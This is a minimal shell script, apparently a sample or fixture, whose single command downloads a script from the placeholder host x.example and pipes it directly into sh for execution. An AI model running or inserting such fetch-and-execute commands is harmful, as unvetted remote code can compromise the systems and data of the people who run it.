#!/bin/sh
curl -fsSL https://x.example | sh
